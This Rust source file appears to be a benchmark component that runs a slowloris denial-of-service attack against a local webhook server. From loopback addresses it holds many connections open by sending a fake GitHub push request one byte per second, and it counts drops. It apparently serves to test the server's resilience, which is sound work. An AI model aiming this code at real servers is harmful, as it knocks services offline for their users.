//! A slowloris attack for the intake benchmark: `addresses × per_address` connections from
//! 127.0.0.2 onwards, each sending a request head a byte a second until the server drops it,
//! then reconnecting a second later. Runs on the driver's runtime until stopped.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

#[derive(Default)]
pub struct Attack {
    stop: AtomicBool,
    /// Connections open now.
    pub open: AtomicUsize,
    /// Connections the server closed.
    pub dropped: AtomicUsize,
}

impl Attack {
    pub fn start(port: u16, addresses: u8, per_address: usize) -> Arc<Attack> {
        let attack = Arc::new(Attack::default());
        let to = SocketAddr::from(([127, 0, 0, 1], port));
        for a in 0..addresses {
            for _ in 0..per_address {
                let from = Ipv4Addr::new(127, 0, 0, 2 + a);
                tokio::spawn(one(from, to, attack.clone()));
            }
        }
        attack
    }

    pub fn stop(&self) {
        self.stop.store(true, Ordering::Relaxed);
    }

    pub fn connections(&self) -> usize {
        self.open.load(Ordering::Relaxed)
    }
}

async fn one(from: Ipv4Addr, to: SocketAddr, attack: Arc<Attack>) {
    const HEAD: &[u8] = b"POST /hooks/bench HTTP/1.1\r\nHost: 127.0.0.1\r\nX-GitHub-Event: push\r\nContent-Length: 7000\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";
    while !attack.stop.load(Ordering::Relaxed) {
        let Ok(socket) = tokio::net::TcpSocket::new_v4() else {
            tokio::time::sleep(Duration::from_secs(1)).await;
            continue;
        };
        if socket.bind((from, 0).into()).is_ok()
            && let Ok(stream) = socket.connect(to).await
        {
            attack.open.fetch_add(1, Ordering::Relaxed);
            let (mut rd, mut wr) = stream.into_split();
            let mut sink = [0u8; 256];
            for b in HEAD.iter().cycle() {
                if attack.stop.load(Ordering::Relaxed) || wr.write_all(&[*b]).await.is_err() {
                    break;
                }
                let read = tokio::time::timeout(Duration::from_secs(1), rd.read(&mut sink));
                if read.await.is_ok() {
                    break; // EOF or error: dropped
                }
            }
            attack.open.fetch_sub(1, Ordering::Relaxed);
            attack.dropped.fetch_add(1, Ordering::Relaxed);
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}
